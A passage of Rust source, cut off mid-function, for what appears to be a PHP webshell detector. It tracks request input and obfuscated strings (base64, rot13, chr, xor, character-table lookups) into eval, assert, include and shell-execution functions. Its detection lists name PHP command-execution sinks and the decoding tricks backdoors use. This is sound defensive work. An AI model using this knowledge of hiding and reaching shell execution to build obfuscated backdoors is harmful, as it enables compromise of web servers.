//! Follows data through a PHP file's tokens: from request input, decoders, downloads and
//! strings assembled character by character, into the places where data becomes code or a
//! command (eval, assert, variable functions, include, shell calls) or a file on disk.
//!
//! The analysis is deliberately simple and never fails: one environment per function (globals
//! share one), flow-insensitive (two passes so later assignments reach earlier uses), literal
//! strings folded through concatenation, table lookups (`$s{17}.$s{9}`), `chr`, `strrev`,
//! `str_rot13`, `base64_decode` and `str_replace`, so a hidden function name is known by name.
//! Work is bounded by the token count.

use std::collections::HashMap;
use std::hash::{BuildHasherDefault, Hasher};

use super::detect::{Danger, Why};
use super::php::{Tok, Token};

/// Where a value may come from (bit set).
type Labels = u16;
const INPUT: Labels = 1;
const DECODED: Labels = 2;
const REMOTE: Labels = 4;
const ASSEMBLED: Labels = 8;
const UPLOAD: Labels = 16;
/// Not a literal: a variable, a call result.
const UNKNOWN: Labels = 32;
/// A long encoded string literal.
const BLOB: Labels = 64;
/// Contains a literal naming a PHP file.
const PHP_NAME: Labels = 128;
/// Starts with a literal or a constant (`__DIR__ . '/x/' . $name`): a fixed place.
const FIXED_HEAD: Labels = 256;
/// Computed with operators other than `.` (a comparison, arithmetic).
const OPERATED: Labels = 512;
/// Request input stored in one element of an array (`$a['x'] = $_GET['x']`): it counts for
/// code, commands and files, not for the array's other elements used as function names.
const ELEM_INPUT: Labels = 1024;
const ANY_INPUT: Labels = INPUT | ELEM_INPUT;
/// A parameter of the function being read: where it goes tells what the function does.
const PARAM: Labels = 2048;
/// A function (or a closure held in a variable) that runs its argument as code…
const WRAPS_CODE: Labels = 4096;
/// …or as a shell command.
const WRAPS_SHELL: Labels = 8192;
const WRAPS: Labels = WRAPS_CODE | WRAPS_SHELL;
/// Object properties (`$this->x`, `$o->x`) share one environment per file, by name.
const PROPS: u32 = u32::MAX;

const HIDDEN: Labels = DECODED | ASSEMBLED;
const TAINT: Labels = INPUT | DECODED | REMOTE | ASSEMBLED | BLOB;

/// Longest literal kept for folding (function names and char tables are short).
const MAX_LIT: usize = 8192;
/// Longest string literal taken into folding.
const MAX_LITERAL_TOKEN: usize = 2048;

#[derive(Debug, Clone, Default)]
struct Val {
    labels: Labels,
    lit: Option<Vec<u8>>,
    /// Character lookups and `chr()` calls concatenated into this value.
    atoms: u16,
}

impl Val {
    fn unknown() -> Val {
        Val { labels: UNKNOWN, ..Val::default() }
    }
    fn lit(v: Vec<u8>) -> Val {
        Val { lit: (v.len() <= MAX_LIT).then_some(v), ..Val::default() }
    }
    /// A string literal's value: kept when short enough to be a name, a table or an encoded
    /// name (long texts are never folded, so they are not copied).
    fn lit_of(v: &[u8]) -> Val {
        Val { lit: (v.len() <= MAX_LITERAL_TOKEN).then(|| v.to_vec()), ..Val::default() }
    }
    fn join(&mut self, o: &Val) {
        self.labels |= o.labels;
        self.atoms = self.atoms.saturating_add(o.atoms);
    }
}

#[derive(Debug, Clone, Default)]
enum LitState {
    #[default]
    Unset,
    Known(Vec<u8>),
    Conflict,
}

#[derive(Debug, Clone, Default)]
struct Slot {
    labels: Labels,
    lit: LitState,
    /// Read during the first pass: a later change means a second pass is needed.
    read: bool,
}

#[derive(Clone, Copy)]
enum Target<'a> {
    Var(&'a [u8]),
    /// `$a[...]`: only labels flow.
    Elem(&'a [u8]),
    /// `$o->name`: one slot per property name in the file.
    Prop(&'a [u8]),
}

/// A place where the analysis found data becoming code, a command or a file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Sink {
    pub why: Why,
    pub danger: Danger,
    /// Byte offset of the sink.
    pub at: usize,
}

struct An<'t, 'a> {
    t: &'t [Token<'a>],
    env: HashMap<(u32, &'a [u8]), Slot>,
    scope: u32,
    next_scope: u32,
    /// The first pass: literals are being learnt.
    first: bool,
    /// A variable changed after it was read in the first pass: a second pass is needed.
    stale: bool,
    record: bool,
    /// Scopes where `extract($_REQUEST)` made every variable the visitor's.
    extracted: Vec<u32>,
    /// Named functions that run a parameter as code or a command (lowercase name → WRAPS_*).
    wrappers: HashMap<Vec<u8>, Labels>,
    /// Every variable name in the file, made when first needed (`var_named`).
    var_names: Option<std::collections::HashSet<&'a [u8]>>,
    /// What the parameters of the function being read reach (WRAPS_*).
    fn_sinks: Labels,
    depth: u32,
    budget: usize,
    out: Vec<Sink>,
}

/// A fast hash for the fixed table of function names (`CLASSES`). Never for names from a file:
/// those keep the standard keyed hash, so a file cannot be made of colliding names.
#[derive(Default)]
struct FxHasher(u64);

impl Hasher for FxHasher {
    fn write(&mut self, bytes: &[u8]) {
        for c in bytes.chunks(8) {
            let mut w = [0u8; 8];
            w[..c.len()].copy_from_slice(c);
            self.add(u64::from_le_bytes(w));
        }
    }
    fn write_u32(&mut self, n: u32) {
        self.add(u64::from(n));
    }
    fn write_usize(&mut self, n: usize) {
        self.add(n as u64);
    }
    fn finish(&self) -> u64 {
        self.0
    }
}

impl FxHasher {
    #[inline]
    fn add(&mut self, w: u64) {
        self.0 = (self.0.rotate_left(5) ^ w).wrapping_mul(0x51_7c_c1_b7_27_22_0a_95);
    }
}

type Fast = BuildHasherDefault<FxHasher>;

/// Runs the analysis over a file's tokens.
pub fn analyze(tokens: &[Token<'_>]) -> Vec<Sink> {
    let mut a = An {
        t: tokens,
        env: HashMap::default(),
        scope: 0,
        next_scope: 1,
        first: true,
        stale: false,
        record: true,
        extracted: Vec::new(),
        wrappers: HashMap::new(),
        var_names: None,
        fn_sinks: 0,
        depth: 0,
        budget: 0,
        out: Vec::new(),
    };
    // The first pass records too: a second one runs only when a variable gained a mark
    // after it was read (flow-insensitive: a later assignment reaches an earlier use).
    for first in [true, false] {
        if !first && !a.stale {
            break;
        }
        a.first = first;
        a.out.clear();
        a.scope = 0;
        a.next_scope = 1;
        a.budget = tokens.len().saturating_mul(8) + 10_000;
        a.block(0, tokens.len());
    }
    a.out
}

fn lower(name: &[u8]) -> Vec<u8> {
    name.to_ascii_lowercase()
}

fn is_superglobal_input(name: &[u8]) -> Option<Labels> {
    match name {
        b"_GET"
        | b"_POST"
        | b"_COOKIE"
        | b"_REQUEST"
        | b"HTTP_RAW_POST_DATA"
        | b"HTTP_GET_VARS"
        | b"HTTP_POST_VARS"
        | b"HTTP_COOKIE_VARS" => Some(INPUT),
        b"_FILES" | b"HTTP_POST_FILES" => Some(INPUT | UPLOAD),
        _ => None,
    }
}

/// `$_SERVER` keys a visitor controls.
fn server_key_is_input(key: &[u8]) -> bool {
    key.starts_with(b"HTTP_")
        || matches!(key, b"QUERY_STRING" | b"REQUEST_URI" | b"PATH_INFO" | b"PATH_TRANSLATED" | b"argv" | b"PHP_SELF")
}

const DECODERS: &[&str] = &[
    "base64_decode",
    "gzinflate",
    "gzuncompress",
    "gzdecode",
    "str_rot13",
    "strrev",
    "hex2bin",
    "convert_uudecode",
    "rawurldecode",
    "urldecode",
    "pack",
    "bzdecompress",
    "openssl_decrypt",
    "mcrypt_decrypt",
    "lzf_decompress",
];
const SHELL: &[&str] =
    &["system", "exec", "passthru", "shell_exec", "popen", "proc_open", "pcntl_exec", "expect_popen"];
const CODE: &[&str] = &["assert", "create_function", "eval"];
/// Functions whose result carries nothing of their arguments worth following.
const REDUCERS: &[&str] = &[
    "isset",
    "empty",
    "count",
    "sizeof",
    "strlen",
    "intval",
    "floatval",
    "boolval",
    "in_array",
    "array_key_exists",
    "md5",
    "sha1",
    "crc32",
    "hash",
    "hash_hmac",
    "password_verify",
    "escapeshellarg",
    "escapeshellcmd",
    "htmlspecialchars",
    "htmlentities",
    "esc_html",
    "esc_attr",
    "esc_url",
    "esc_sql",
    "sanitize_text_field",
    "sanitize_file_name",
    "sanitize_key",
    "absint",
    "preg_match",
    "preg_match_all",
    "function_exists",
    "is_callable",
    "file_exists",
    "is_file",
    "is_dir",
    "is_array",
    "is_string",
    "is_numeric",
    "is_int",
    "strpos",
    "stripos",
    "strcmp",
    "strcasecmp",
    "ctype_digit",
    "ctype_alnum",
    "wp_verify_nonce",
    "check_admin_referer",
    "current_user_can",
    "filesize",
    "is_uploaded_file",
];
const REMOTE_CALLS: &[&str] = &[
    "curl_exec",
    "curl_multi_getcontent",
    "fsockopen",
    "stream_socket_client",
    "wp_remote_get",
    "wp_remote_post",
    "wp_remote_request",
    "wp_remote_retrieve_body",
    "wp_safe_remote_get",
];
const INPUT_CALLS: &[&str] =
    &["getallheaders", "apache_request_headers", "filter_input", "filter_input_array", "get_defined_vars"];
/// Callback-taking functions: the callback's argument position.
const CALLBACKS: &[(&str, usize)] = &[
    ("call_user_func", 0),
    ("call_user_func_array", 0),
    ("array_map", 0),
    ("array_filter", 1),
    ("array_walk", 1),
    ("array_walk_recursive", 1),
    ("array_reduce", 1),
    ("usort", 1),
    ("uasort", 1),
    ("uksort", 1),
    ("register_shutdown_function", 0),
    ("register_tick_function", 0),
    ("ob_start", 0),
    ("iterator_apply", 1),
    ("forward_static_call", 0),
    ("forward_static_call_array", 0),
    ("set_error_handler", 0),
    ("set_exception_handler", 0),
    ("preg_replace_callback", 1),
    ("header_register_callback", 0),
];
const INCLUDES: &[&str] = &["include", "include_once", "require", "require_once"];
/// Endings of data files that are never PHP code (an include of one hides code in it).
const DATA_ENDINGS: &[&str] = &[
    ".ico", ".png", ".jpg", ".jpeg", ".gif", ".bmp", ".svg", ".webp", ".txt", ".log", ".tmp", ".dat", ".zip", ".pdf",
    ".css", ".js", ".woff", ".ttf", ".mp3", ".db",
];

/// What a function name is to the analysis (bit set), looked up once per call.
const C_DECODER: u8 = 1;
const C_SHELL: u8 = 2;
const C_REMOTE: u8 = 4;
const C_INPUT: u8 = 8;
const C_REDUCER: u8 = 16;
const C_CALLBACK: u8 = 32;

static CLASSES: std::sync::LazyLock<HashMap<&'static [u8], u8, Fast>> = std::sync::LazyLock::new(|| {
    let mut m: HashMap<&'static [u8], u8, Fast> = HashMap::default();
    let lists: [(&[&'static str], u8); 5] = [
        (DECODERS, C_DECODER),
        (SHELL, C_SHELL),
        (REMOTE_CALLS, C_REMOTE),
        (INPUT_CALLS, C_INPUT),
        (REDUCERS, C_REDUCER),
    ];
    for (list, c) in lists {
        for n in list {
            *m.entry(n.as_bytes()).or_default() |= c;
        }
    }
    for (n, _) in CALLBACKS {
        *m.entry(n.as_bytes()).or_default() |= C_CALLBACK;
    }
    m
});

fn class(name: &[u8]) -> u8 {
    CLASSES.get(name).copied().unwrap_or(0)
}

fn is(name: &[u8], list: &[&str]) -> bool {
    list.iter().any(|n| same(n.as_bytes(), name))
}

/// Byte strings equal (short ones without a call: this runs for every token).
#[inline]
fn same(a: &[u8], b: &[u8]) -> bool {
    a.len() == b.len()
        && match a.len() {
            0 => true,
            1 => a[0] == b[0],
            2 => a[0] == b[0] && a[1] == b[1],
            3 => a[0] == b[0] && a[1] == b[1] && a[2] == b[2],
            _ => a[0] == b[0] && a == b,
        }
}

fn blob_like(v: &[u8]) -> bool {
    if v.len() < 1000 {
        return false;
    }
    let b64 = v
        .iter()
        .filter(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'=' | b'\n' | b'\r' | b'-' | b'_'))
        .count();
    // Long words of prose or code have spaces and punctuation; encoded data has none.
    b64 * 100 >= v.len() * 97 && !v.starts_with(b"data:")
}

fn php_name(v: &[u8]) -> bool {
    [".php", ".phtml", ".pht", ".phar", ".php5", ".php7"]
        .iter()
        .any(|e| v.len() >= e.len() && v[v.len() - e.len()..].eq_ignore_ascii_case(e.as_bytes()))
}

fn parse_num(v: &[u8]) -> Option<i64> {
    let s = std::str::from_utf8(v).ok()?.replace('_', "");
    if let Some(h) = s.strip_prefix("0x").or_else(|| s.strip_prefix("0X")) {
        return i64::from_str_radix(h, 16).ok();
    }
    if s.len() > 1 && s.starts_with('0') && s.bytes().all(|c| c.is_ascii_digit()) {
        return i64::from_str_radix(&s[1..], 8).ok();
    }
    s.parse().ok()
}

fn rot13(v: &[u8]) -> Vec<u8> {
    v.iter()
        .map(|c| match c {
            b'a'..=b'z' => (c - b'a' + 13) % 26 + b'a',
            b'A'..=b'Z' => (c - b'A' + 13) % 26 + b'A',
            _ => *c,
        })
        .collect()
}

fn hex(v: &[u8]) -> Option<Vec<u8>> {
    if !v.len().is_multiple_of(2) {
        return None;
    }
    v.chunks(2).map(|p| std::str::from_utf8(p).ok().and_then(|s| u8::from_str_radix(s, 16).ok())).collect()
}

fn replace(s: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
    if from.is_empty() {
        return s.to_vec();
    }
    let mut out = Vec::with_capacity(s.len());
    let mut i = 0;
    while i < s.len() {
        if s[i..].starts_with(from) {
            out.extend_from_slice(to);
            i += from.len();
        } else {
            out.push(s[i]);
            i += 1;
        }
    }
    out
}

impl<'t, 'a> An<'t, 'a> {
    fn tok(&self, i: usize) -> Option<&'t Tok<'a>> {
        let t: &'t [Token<'a>] = self.t;
        t.get(i).map(|t| &t.tok)
    }
    fn op(&self, i: usize, o: &[u8]) -> bool {
        matches!(self.tok(i), Some(Tok::Op(x)) if same(x, o))
    }
    fn at(&self, i: usize) -> usize {
        self.t.get(i).or(self.t.last()).map_or(0, |t| t.at)
    }
    fn hit(&mut self, why: Why, danger: Danger, i: usize) {
        if self.record {
            let at = self.at(i);
            self.out.push(Sink { why, danger, at });
        }
    }

    /// Statements from `i` to `end`.
    fn block(&mut self, mut i: usize, end: usize) {
        while i < end && self.budget > 0 {
            let (_, next, _) = self.expr(i);
            i = if next > i { next } else { i + 1 };
        }
    }

    fn terminator(&self, i: usize) -> bool {
        match self.tok(i) {
            None | Some(Tok::Close) => true,
            Some(Tok::Op(o)) => matches!(*o, b";" | b"," | b")" | b"]" | b"}" | b"{" | b"=>"),
            Some(Tok::Ident(w)) => w.eq_ignore_ascii_case(b"as"),
            _ => false,
        }
    }

    /// An expression from `i`: its value, where it ends, and what it assigns to (when it is a
    /// plain variable).
    fn expr(&mut self, i: usize) -> (Val, usize, Option<Target<'a>>) {
        if self.depth > 200 || self.budget == 0 {
            return (Val::unknown(), i + 1, None);
        }
        self.depth += 1;
        let r = self.expr_inner(i);
        self.depth -= 1;
        r
    }

    fn expr_inner(&mut self, i: usize) -> (Val, usize, Option<Target<'a>>) {
        let mut acc = Val::default();
        let mut lit: Option<Vec<u8>> = Some(Vec::new());
        let mut pure = true;
        let mut j = i;
        let mut atoms_seen = 0;
        let mut head_fixed = false;
        let mut last_target = None;
        // `"\x13\x19" ^ "``"`: two literals xor-ed (a hidden name).
        let mut xor = false;
        while !self.terminator(j) && self.budget > 0 {
            self.budget -= 1;
            let (v, nj, target) = self.atom(j);
            if nj <= j {
                return (acc, j, None);
            }
            atoms_seen += 1;
            if atoms_seen == 1 {
                head_fixed =
                    v.labels & INPUT == 0 && (v.lit.is_some() || v.labels & UNKNOWN == 0 || v.labels & FIXED_HEAD != 0);
            }
            last_target = target;
            match (&mut lit, &v.lit) {
                (Some(l), Some(x)) if std::mem::take(&mut xor) && !l.is_empty() && !x.is_empty() => {
                    *l = l.iter().zip(x.iter()).map(|(a, b)| a ^ b).collect();
                    acc.labels |= DECODED;
                }
                (Some(l), Some(x)) if pure && l.len() + x.len() <= MAX_LIT => l.extend_from_slice(x),
                _ => lit = None,
            }
            acc.join(&v);
            j = nj;
            match self.tok(j) {
                Some(Tok::Op(b".")) => j += 1,
                Some(Tok::Op(b"^")) if pure && lit.as_ref().is_some_and(|l| !l.is_empty()) && v.lit.is_some() => {
                    xor = true;
                    j += 1;
                }
                Some(Tok::Op(o)) if is_assign(o) => {
                    let o: &[u8] = o;
                    let (rhs, end, _) = self.expr(j + 1);
                    if let Some(t) = target {
                        self.assign(t, o, &rhs);
                    }
                    let mut r = rhs;
                    if atoms_seen > 1 || !pure {
                        r.join(&acc);
                        r.lit = None;
                    }
                    return (r, end, None);
                }
                Some(Tok::Op(o)) if !matches!(*o, b";" | b"," | b")" | b"]" | b"}" | b"{" | b"=>") => {
                    pure = false;
                    j += 1;
                }
                Some(Tok::Ident(w))
                    if [b"and".as_slice(), b"or", b"xor", b"instanceof"].iter().any(|k| w.eq_ignore_ascii_case(k)) =>
                {
                    pure = false;
                    j += 1;
                }
                _ => break,
            }
        }
        if acc.atoms >= 3 {
            acc.labels |= ASSEMBLED;
        }
        if atoms_seen > 1 {
            acc.labels &= !FIXED_HEAD;
            if head_fixed {
                acc.labels |= FIXED_HEAD;
            }
        }
        if !pure {
            acc.labels |= OPERATED;
        }
        acc.lit = if pure && atoms_seen > 0 { lit } else { None };
        let target = if atoms_seen == 1 { last_target } else { None };
        (acc, j, target)
    }

    fn assign(&mut self, t: Target<'a>, op: &[u8], rhs: &Val) {
        let (scope, name, elem) = match t {
            Target::Var(n) => (self.scope, n, false),
            Target::Elem(n) => (self.scope, n, true),
            Target::Prop(n) => (PROPS, n, false),
        };
        let first = self.first;
        let slot = self.env.entry((scope, name)).or_default();
        let before = slot.labels;
        let mut labels = rhs.labels & !UNKNOWN | if rhs.lit.is_none() { rhs.labels & UNKNOWN } else { 0 };
        if elem && labels & INPUT != 0 {
            labels = labels & !INPUT | ELEM_INPUT;
        }
        slot.labels |= labels;
        if rhs.atoms >= 3 {
            slot.labels |= ASSEMBLED;
        }
        if !first {
            return;
        }
        let lit_before = matches!(slot.lit, LitState::Unset);
        let read = slot.read;
        slot.lit = match (std::mem::take(&mut slot.lit), &rhs.lit, op, elem) {
            (_, _, _, true) => LitState::Conflict,
            (LitState::Unset, Some(v), b"=", _) => LitState::Known(v.clone()),
            (LitState::Known(old), Some(v), b"=", _) if old == *v => LitState::Known(old),
            (LitState::Known(mut old), Some(v), b".=", _) if old.len() + v.len() <= MAX_LIT => {
                old.extend_from_slice(v);
                LitState::Known(old)
            }
            _ => LitState::Conflict,
        };
        let gained = slot.labels & !before & (TAINT | UPLOAD | ELEM_INPUT | FIXED_HEAD) != 0;
        let learnt = lit_before && matches!(slot.lit, LitState::Known(_));
        if read && (gained || learnt) {
            self.stale = true;
        }
    }

    fn lookup(&mut self, name: &'a [u8]) -> Val {
        if let Some(l) = is_superglobal_input(name) {
            return Val { labels: l, ..Val::default() };
        }
        if self.extracted.contains(&self.scope) {
            return Val { labels: INPUT | UNKNOWN, ..Val::default() };
        }
        if self.first {
            self.env.entry((self.scope, name)).or_default().read = true;
        }
        match self.env.get(&(self.scope, name)) {
            None => Val::unknown(),
            Some(s) => match &s.lit {
                LitState::Known(v) => Val { labels: s.labels, lit: Some(v.clone()), atoms: 0 },
                _ => Val { labels: s.labels | UNKNOWN, ..Val::default() },
            },
        }
    }

    /// `$o->name`: what any object's property of that name was given in this file.
    fn lookup_prop(&mut self, name: &'a [u8]) -> Val {
        let s = self.env.entry((PROPS, name)).or_default();
        if self.first {
            s.read = true;
        }
        match &s.lit {
            LitState::Known(v) => Val { labels: s.labels, lit: Some(v.clone()), atoms: 0 },
            _ => Val { labels: s.labels | UNKNOWN, ..Val::default() },
        }
    }

    /// A token `$name` spelling `name`, so a variable named by a known string (`$$a`) can be
    /// assigned like one written out.
    fn var_named(&mut self, name: &[u8]) -> Option<&'a [u8]> {
        let t: &'t [Token<'a>] = self.t;
        // Every name once per file (a file of many `$$a` stays linear).
        let names = self.var_names.get_or_insert_with(|| {
            t.iter()
                .filter_map(|t| match &t.tok {
                    Tok::Var(n) => Some(*n),
                    _ => None,
                })
                .collect()
        });
        names.get(name).copied()
    }

    /// `list($a, $b) = …` / `[$a, $b] = …` (`open`, then `=` at `eq`): every variable in the
    /// list gets the right-hand side's marks.
    fn destructure(&mut self, open: usize, eq: usize) -> (Val, usize, Option<Target<'a>>) {
        let close = eq - 1;
        let (rhs, end, _) = self.expr(eq + 1);
        let v = Val { labels: rhs.labels | UNKNOWN, ..Val::default() };
        for k in open + 1..close {
            if let Some(Tok::Var(n)) = self.tok(k) {
                let n = *n;
                self.assign(Target::Var(n), b"=", &v);
            }
        }
        (rhs, end, None)
    }

    /// Whether a string literal inside the call at `i` (name, then `(`) passes `f`.
    fn strings_in_call(&self, i: usize, f: impl Fn(&[u8]) -> bool) -> bool {
        // Within a bounded distance: nested calls cannot make this quadratic.
        let mut close = i + 1;
        let mut depth = 0usize;
        while close < self.t.len() && close < i + 4096 {
            match self.tok(close) {
                Some(Tok::Op(b"(" | b"[" | b"{")) => depth += 1,
                Some(Tok::Op(b")" | b"]" | b"}")) => {
                    depth = depth.saturating_sub(1);
                    if depth == 0 {
                        break;
                    }
                }
                _ => {}
            }
            close += 1;
        }
        self.t[(i + 1).min(close)..close].iter().any(|t| matches!(&t.tok, Tok::Str { value, .. } if f(value)))
    }

    /// The index of the token closing the group opened at `open`.
    fn close_of(&self, open: usize) -> usize {
        let mut depth = 0usize;
        let mut k = open;
        while let Some(t) = self.tok(k) {
            if let Tok::Op(o) = t {
                match *o {
                    b"(" | b"[" | b"{" => depth += 1,
                    b")" | b"]" | b"}" => {
                        depth = depth.saturating_sub(1);
                        if depth == 0 {
                            return k;
                        }
                    }
                    _ => {}
                }
            }
            k += 1;
        }
        self.t.len()
    }

    /// Arguments of a call whose `(` is at `open`: values and the index after `)`.
    fn args(&mut self, open: usize) -> (Vec<Val>, usize) {
        let mut out = Vec::new();
        let mut j = open + 1;
        loop {
            if self.op(j, b")") {
                return (out, j + 1);
            }
            if self.tok(j).is_none() || self.budget == 0 {
                return (out, j);
            }
            let (v, end, _) = self.expr(j);
            out.push(v);
            if self.op(end, b",") {
                j = end + 1;
            } else if self.op(end, b")") {
                return (out, end + 1);
            } else if self.op(end, b"{") || self.op(end, b"}") || self.op(end, b";") {
                // Not an argument list after all (or a broken file): go on from here.
                return (out, end);
            } else {
                j = end.max(j + 1);
            }
        }
    }

    fn atom(&mut self, i: usize) -> (Val, usize, Option<Target<'a>>) {
        let Some(tok) = self.tok(i) else { return (Val::default(), i, None) };
        match tok {
            Tok::Op(o) => match *o {
                b"@" | b"!" | b"-" | b"+" | b"~" | b"&" | b"++" | b"--" | b"..." => {
                    let (v, e, _) = self.atom(i + 1);
                    (v, e.max(i + 1), None)
                }
                b"(" => {
                    // A cast: `(string) $x`.
                    if let (Some(Tok::Ident(w)), true) = (self.tok(i + 1), self.op(i + 2, b")")) {
                        let w = lower(w);
                        if matches!(
                            w.as_slice(),
                            b"string"
                                | b"int"
                                | b"integer"
                                | b"bool"
                                | b"boolean"
                                | b"float"
                                | b"double"
                                | b"array"
                                | b"object"
                                | b"binary"
                        ) {
                            let (mut v, e, _) = self.atom(i + 3);
                            if matches!(w.as_slice(), b"int" | b"integer" | b"bool" | b"boolean" | b"float" | b"double")
                            {
                                v = Val::default();
                            }
                            return (v, e.max(i + 3), None);
                        }
                    }
                    let (v, e, _) = self.expr(i + 1);
                    let e = if self.op(e, b")") { e + 1 } else { e.max(i + 1) };
                    self.postfix(v, e, None, i)
                }
                b"[" => {
                    let (vals, e) = self.list(i, b"]");
                    if self.op(e, b"=") && self.op(e.wrapping_sub(1), b"]") {
                        return self.destructure(i, e);
                    }
                    let v = array_val(&vals);
                    self.postfix(v, e, None, i)
                }
                b"$" => {
                    // Variable variables: `${'_PO'.'ST'}`, `$$name`.
                    if self.op(i + 1, b"{") {
                        let (inner, e, _) = self.expr(i + 2);
                        let e = if self.op(e, b"}") { e + 1 } else { e.max(i + 2) };
                        let v = match inner.lit.as_deref().and_then(is_superglobal_input) {
                            Some(l) => Val { labels: l, ..Val::default() },
                            None => Val { labels: UNKNOWN | (inner.labels & TAINT), ..Val::default() },
                        };
                        return self.postfix(v, e, None, i);
                    }
                    if let Some(Tok::Var(_)) = self.tok(i + 1) {
                        let (v, e, _) = self.atom(i + 1);
                        // `$$a` where `$a` is a known name: that variable.
                        if let Some(n) = v.lit.as_deref().and_then(|n| self.var_named(n)) {
                            let x = self.lookup(n);
                            return self.postfix(x, e, Some(Target::Var(n)), i);
                        }
                        let v = Val { labels: UNKNOWN | (v.labels & TAINT), ..Val::default() };
                        return self.postfix(v, e, None, i);
                    }
                    (Val::default(), i + 1, None)
                }
                _ => (Val::default(), i, None),
            },
            Tok::Var(name) => {
                let name = *name;
                let v = self.lookup(name);
                self.postfix(v, i + 1, Some(Target::Var(name)), i)
            }
            Tok::Num(n) => (Val::lit(n.to_vec()), i + 1, None),
            Tok::Str { value, vars, escapes } => {
                let mut v = Val::lit_of(value);
                for name in vars {
                    let x = self.lookup(name);
                    v.labels |= x.labels;
                    v.lit = None;
                }
                if blob_like(value) || *escapes >= 100 {
                    v.labels |= BLOB;
                }
                if php_name(value) {
                    v.labels |= PHP_NAME;
                }
                self.postfix(v, i + 1, None, i)
            }
            Tok::Backtick { vars, .. } => {
                let mut v = Val::default();
                for name in vars {
                    v.join(&self.lookup(name));
                }
                self.shell(&v, i, true);
                (Val::unknown(), i + 1, None)
            }
            Tok::Ident(w) => self.ident(w, i),
            Tok::Close => (Val::default(), i, None),
        }
    }

    /// Values of a bracketed list opened at `open` up to `close` (`[a, b => c]`, `array(...)`).
    fn list(&mut self, open: usize, close: &[u8]) -> (Vec<Val>, usize) {
        let mut out = Vec::new();
        let mut j = open + 1;
        loop {
            if self.op(j, close) {
                return (out, j + 1);
            }
            if self.tok(j).is_none() || self.budget == 0 {
                return (out, j);
            }
            let (v, end, _) = self.expr(j);
            out.push(v);
            if self.op(end, b",") || self.op(end, b"=>") {
                j = end + 1;
            } else if self.op(end, close) {
                return (out, end + 1);
            } else if self.op(end, b";") || self.op(end, b"{") || self.op(end, b"}") {
                return (out, end);
            } else {
                j = end.max(j + 1);
            }
        }
    }

    fn postfix(
        &mut self,
        mut v: Val,
        mut j: usize,
        mut target: Option<Target<'a>>,
        start: usize,
    ) -> (Val, usize, Option<Target<'a>>) {
        let base_name = match self.tok(start) {
            Some(Tok::Var(n)) => Some(*n),
            _ => None,
        };
        let mut indexed = false;
        loop {
            // A property: `$this->data`, `$o->data` (not a method call).
            let prop = match (self.tok(j), self.tok(j + 1)) {
                (Some(Tok::Op(o)), Some(Tok::Ident(p))) if (*o == b"->" || *o == b"?->") && !self.op(j + 2, b"(") => {
                    Some(*p)
                }
                _ => None,
            };
            if let Some(p) = prop {
                v = self.lookup_prop(p);
                target = Some(Target::Prop(p));
                j += 2;
                continue;
            }
            match self.tok(j) {
                Some(Tok::Op(o)) if *o == b"[" || (*o == b"{" && target.is_some()) => {
                    let curly = self.op(j, b"{");
                    let close: &[u8] = if curly { b"}" } else { b"]" };
                    let (idx, e, _) =
                        if self.op(j + 1, close) { (Val::default(), j + 1, None) } else { self.expr(j + 1) };
                    let e = if self.op(e, close) { e + 1 } else { e.max(j + 1) };
                    let key = idx.lit.clone();
                    // Special arrays by key.
                    if !indexed {
                        match (base_name, &key) {
                            (Some(b"_SERVER"), Some(k)) => {
                                v = Val { labels: if server_key_is_input(k) { INPUT } else { 0 }, ..Val::default() };
                            }
                            (Some(b"GLOBALS"), Some(k)) => {
                                let k = k.clone();
                                v = match is_superglobal_input(&k) {
                                    Some(l) => Val { labels: l, ..Val::default() },
                                    None => self.lookup_owned(&k),
                                };
                            }
                            _ => {
                                let ch = match (&v.lit, key.as_deref().and_then(parse_num)) {
                                    (Some(table), Some(n)) if n >= 0 && (n as usize) < table.len() => {
                                        Some(vec![table[n as usize]])
                                    }
                                    _ => None,
                                };
                                // A character lookup: in a known string, or with the string-offset
                                // braces `$s{17}`.
                                let numeric = key.as_deref().and_then(parse_num).is_some();
                                let char_lookup = numeric && (v.lit.is_some() || curly);
                                let labels = v.labels & !(FIXED_HEAD | OPERATED | PHP_NAME);
                                v = Val { labels, lit: ch, atoms: u16::from(char_lookup) };
                            }
                        }
                    } else {
                        v = Val { labels: v.labels & !(FIXED_HEAD | OPERATED | PHP_NAME), lit: None, atoms: 0 };
                    }
                    indexed = true;
                    target = target.and_then(|t| match t {
                        Target::Var(n) | Target::Elem(n) => Some(Target::Elem(n)),
                        Target::Prop(_) => None,
                    });
                    j = e;
                }
                Some(Tok::Op(b"->")) | Some(Tok::Op(b"?->")) | Some(Tok::Op(b"::")) => {
                    target = None;
                    j += 1;
                    match self.tok(j) {
                        Some(Tok::Ident(_)) | Some(Tok::Var(_)) => j += 1,
                        Some(Tok::Op(b"{")) => {
                            let c = self.close_of(j);
                            j = c + 1;
                        }
                        _ => {}
                    }
                    if self.op(j, b"(") {
                        let (_, e) = self.args(j);
                        j = e;
                    }
                    v = Val::unknown();
                }
                Some(Tok::Op(b"(")) => {
                    target = None;
                    let open = j;
                    let (args, e) = self.args(j);
                    v = self.var_call(&v, &args, open.max(start));
                    j = e;
                }
                Some(Tok::Op(b"++")) | Some(Tok::Op(b"--")) => j += 1,
                _ => return (v, j, target),
            }
        }
    }

    fn lookup_owned(&self, name: &[u8]) -> Val {
        let hit = self.env.iter().find(|((s, n), _)| *s == self.scope && *n == name).map(|(_, s)| s.clone());
        match hit {
            None => Val::unknown(),
            Some(s) => match s.lit {
                LitState::Known(v) => Val { labels: s.labels, lit: Some(v), atoms: 0 },
                _ => Val { labels: s.labels | UNKNOWN, ..Val::default() },
            },
        }
    }

    fn ident(&mut self, w: &'a [u8], i: usize) -> (Val, usize, Option<Target<'a>>) {
        let mut buf = [0u8; 48];
        let name: &[u8] = if w.len() <= buf.len() {
            buf[..w.len()].copy_from_slice(w);
            buf[..w.len()].make_ascii_lowercase();
            &buf[..w.len()]
        } else {
            w
        };
        let call = self.op(i + 1, b"(");
        if is(name, INCLUDES) {
            let (v, e, _) = self.expr(i + 1);
            self.include(&v, i);
            return (Val::unknown(), e, None);
        }
        match name {
            b"function" | b"fn" => return self.function(i),
            b"foreach" if call => {
                let (v, mut e, _) = self.expr(i + 2);
                if matches!(self.tok(e), Some(Tok::Ident(a)) if a.eq_ignore_ascii_case(b"as")) {
                    e += 1;
                    while !self.op(e, b")") && self.tok(e).is_some() && !self.op(e, b"{") && !self.op(e, b";") {
                        if let Some(Tok::Var(n)) = self.tok(e) {
